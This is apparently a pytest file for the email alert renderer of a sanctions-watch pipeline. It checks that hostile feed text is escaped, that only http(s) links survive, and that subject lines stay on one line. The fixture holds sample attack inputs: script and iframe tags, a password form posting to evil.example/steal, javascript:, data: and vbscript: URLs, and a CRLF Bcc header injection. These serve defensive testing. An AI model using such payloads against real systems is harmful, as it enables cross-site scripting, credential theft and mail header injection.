"""Rendering (pure): hostile feed text is escaped everywhere, only http(s) links survive, the subject is
one clean line, the multipart structure is right, and the committed examples are up to date."""

from __future__ import annotations

import dataclasses
import importlib.util
import re
from datetime import UTC, datetime

import pytest
from helpers import ROOT

from pipeline.alerts.views import (
    AlertView,
    DigestGroup,
    DigestView,
    RegimeView,
    SourceView,
)
from pipeline.deliver.mail import build_message
from pipeline.deliver.render import render_alert, render_digest

T = datetime(2026, 3, 15, 6, 10, tzinfo=UTC)
DPRK = RegimeView(
    "dprk",
    "Democratic People's Republic of Korea",
    "1718 Committee",
    "https://main.un.org/securitycouncil/en/sanctions/1718",
    (1718, 2397),
)

HOSTILE = AlertView(
    alert_id=7,
    title='Arms <script>alert("x")</script>\r\nBcc: victim@example.org\x00\x1b[31m & "quotes"',
    summary=(
        '<form action="https://evil.example/steal"><input name="pw" type="password"></form>'
        '<img src="https://tracker.example/pixel.gif?u=1"> <iframe src="https://evil.example"></iframe>'
        '<a href="javascript:alert(1)">click</a> <style>@import url(https://evil.example/x.css)</style> Shells reached the port.'
    ),
    url="javascript:alert(document.cookie)",
    lang="en",
    first_seen_at=T,
    published_at=None,
    score=0.97,
    threshold=0.5,
    model_version="test-v1 <b>",
    severity="high",
    severity_reason="score 0.97 → high ⇒ high",
    sources=(
        SourceView(
            "Wire <img src=x onerror=alert(1)>",
            "data:text/html;base64,PHNjcmlwdD4=",
            T,
            "T <script>",
            "en",
            T,
        ),
        SourceView("Good outlet", "https://good.example/a?b=1&c=2", T),
        SourceView("Vb", "vbscript:msgbox(1)", None),
        SourceView("Spaces", "https://evil.example/a b", None),
    ),
    evidence_sentences=(
        'The <b onmouseover="x()">shells</b> reached the port via <a href="javascript:1">Nampo</a>.',
    ),
    evidence_terms=("shells", "<b", "nampo"),
    regimes=(DPRK,),
    designated=("PETREL 8 <script>",),
    feedback="reply to <analysts@example.org>",
    story_id=3,
)


def hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def test_hostile_feed_text_is_escaped_and_only_http_links_survive() -> None:
    out = render_alert(HOSTILE)
    html = out.html
    for active in ("<script", "<form", "<input", "<img", "<iframe", "<style", "<b onmouseover"):
        assert active not in html, active
    assert "&lt;script&gt;" in html and "&lt;form" in html and "&lt;img" in html
    assert re.search(r"<[a-z]+[^>]*\ssrc=", html) is None  # no element loads anything
    assert re.search(r"<[a-z]+[^>]*\son[a-z]+=", html) is None  # no event handler on any element
    assert sorted(hrefs(html)) == [
        "https://good.example/a?b=1&amp;c=2",
        "https://main.un.org/securitycouncil/en/sanctions/1718",
    ]
    assert "javascript:" not in "".join(hrefs(html)) and "data:" not in "".join(hrefs(html))
    # Evidence terms are highlighted after escaping: bold tags are ours, the feed's are text.
    assert "<b>shells</b>" in html and "&lt;b onmouseover" not in html.split("<mark")[0]
    assert "<b>Nampo</b>" in html and "&lt;/b&gt;" in html
    text = out.text
    # The link fields (article and source URLs) are dropped unless http(s); feed *text* stays text.
    assert (
        "javascript:alert(document.cookie)" not in text
        and "data:text" not in text
        and "vbscript:" not in text
    )
    assert all(
        u.startswith(("http://", "https://")) for u in re.findall(r"^\s+(\S+://\S+)$", text, re.M)
    )
    assert "https://good.example/a?b=1&c=2" in text  # plain text is not HTML-escaped


def test_subject_is_one_clean_line() -> None:
    subject = render_alert(HOSTILE).subject
    assert subject.startswith("[sanctions-watch] HIGH · DPRK · Arms <script>")
    assert not re.search(r"[\x00-\x1f\x7f]", subject) and len(subject) <= 200
    long = dataclasses.replace(HOSTILE, title="word " * 100)
    assert len(render_alert(long).subject) <= 200


def test_update_subject_and_banner() -> None:
    update = dataclasses.replace(
        HOSTILE, kind="update", severity="critical", previous_severity="high"
    )
    out = render_alert(update)
    assert out.subject.startswith("[sanctions-watch] UPDATE CRITICAL (was HIGH) · DPRK · ")
    assert "UPDATE to alert on story 3: severity raised from HIGH to CRITICAL" in out.text
    assert "UPDATE to alert on story 3" in out.html


def test_multipart_structure() -> None:
    msg = build_message(
        render_alert(HOSTILE),
        sender="sw <a@sw.example>",
        recipient="Ann <ann@example.org>",
        message_id="<sw.7.x@sw.example>",
        date=T,
    )
    assert msg.get_content_type() == "multipart/alternative"
    parts = [p.get_content_type() for p in msg.iter_parts()]
    assert parts == ["text/plain", "text/html"]
    assert all(p.get_content_charset() == "utf-8" for p in msg.iter_parts())
    assert msg["Message-ID"] == "<sw.7.x@sw.example>" and msg["Auto-Submitted"] == "auto-generated"
    headers = msg.as_bytes().split(b"\r\n\r\n", 1)[0]
    assert b"\r\nBcc:" not in headers and msg["Bcc"] is None


def test_digest_render_groups_and_escapes() -> None:
    other = dataclasses.replace(
        HOSTILE, alert_id=8, title="Second <i>story</i>", severity="medium", score=0.6
    )
    view = DigestView(
        day="2026-03-15",
        recipient="d@example.org",
        generated_at=T,
        groups=(DigestGroup(DPRK, DPRK.name, (HOSTILE, other)),),
    )
    out = render_digest(view)
    assert out.subject == "[sanctions-watch] Daily digest 2026-03-15 · 2 stories · highest HIGH"
    assert "<script" not in out.html and "<i>" not in out.html and "&lt;i&gt;story" in out.html
    assert out.text.index("[HIGH]") < out.text.index("[MEDIUM]")


@pytest.mark.parametrize("kind", ["alert", "update", "digest"])
def test_examples_use_inline_css_only(kind: str) -> None:
    html = (ROOT / "docs" / "examples" / f"{kind}.html").read_text(encoding="utf-8")
    assert (
        "<style" not in html
        and "<link" not in html
        and "<script" not in html
        and "<img" not in html
    )
    assert 'name="viewport"' in html and "max-width:640px" in html


def test_committed_examples_are_up_to_date() -> None:
    spec = importlib.util.spec_from_file_location(
        "render_examples", ROOT / "scripts" / "render_examples.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.main(["--check"]) == 0, "run: .venv/bin/python scripts/render_examples.py"
